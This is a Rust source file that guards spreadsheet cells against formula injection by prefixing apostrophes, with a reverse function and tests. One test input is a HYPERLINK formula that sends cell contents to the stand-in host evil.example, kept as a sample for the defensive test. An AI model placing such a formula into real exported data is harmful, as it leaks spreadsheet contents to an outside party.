//! Cells that no spreadsheet takes for a formula, and what they were before.
//!
//! A formula begins a cell, and a spreadsheet may begin one where we do not: behind a semicolon, a tab or an end of line, where its
//! settings or a lost quotation mark have it so. There each gets an apostrophe, and so does what is one already, so that all of it can
//! be taken out again.

/// What a spreadsheet takes for the beginning of a formula, also in wide letters.
const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// A cell that no spreadsheet runs.
pub fn guarded(cell: &str) -> String {
    let mut guarded = String::with_capacity(cell.len() + 2);
    for piece in pieces(cell) {
        if is_open(piece) {
            guarded.push('\'');
        }
        guarded.push_str(piece);
    }
    guarded
}

/// The same cell as it was.
pub fn bare(cell: &str) -> String {
    let pieces = pieces(cell).map(|piece| match piece.strip_prefix('\'') {
        Some(rest) if is_open(rest) => rest,
        _ => piece,
    });
    pieces.collect()
}

/// What a cell may be taken apart into, each with the sign that ends it.
fn pieces(cell: &str) -> impl Iterator<Item = &str> {
    cell.split_inclusive([',', ';', '|', '\t', '\r', '\n', '"'])
}

/// Whether it would be a formula, behind any number of spaces and apostrophes of ours; also where nothing but the end of a cell comes.
fn is_open(piece: &str) -> bool {
    let rest = piece.trim_start_matches(['\'', ' ', '\u{a0}']);
    rest.starts_with(FORMULA) || rest.starts_with(['\t', '\r'])
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn no_piece_of_a_cell_begins_a_formula() {
        for (cell, wanted) in [
            ("=1+1", "'=1+1"),
            ("+358 40 123", "'+358 40 123"),
            ("-3", "'-3"),
            ("@sum", "'@sum"),
            (" =1", "' =1"),
            ("'=1", "''=1"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            (
                "x;=HYPERLINK(\"http://evil.example/\"&A1)",
                "x;'=HYPERLINK(\"http://evil.example/\"&A1)",
            ),
            ("x;\"=1", "x;\"'=1"),
            ("x\t@sum", "x\t'@sum"),
            ("a,+1\n-2", "a,'+1\n'-2"),
            ("＝1", "'＝1"),
            ("O'Brien; 'quoted'", "O'Brien; 'quoted'"),
            ("a=b; c-d", "a=b; c-d"),
            ("plain", "plain"),
            ("", ""),
        ] {
            assert_eq!(guarded(cell), wanted);
            assert_eq!(bare(wanted), cell);
        }
    }

    proptest! {
        #[test]
        fn what_is_guarded_is_bare_again(cell in "[a='+@;,|\t\r\n\" -]{0,20}|.{0,20}") {
            prop_assert_eq!(bare(&guarded(&cell)), cell);
        }
    }
}
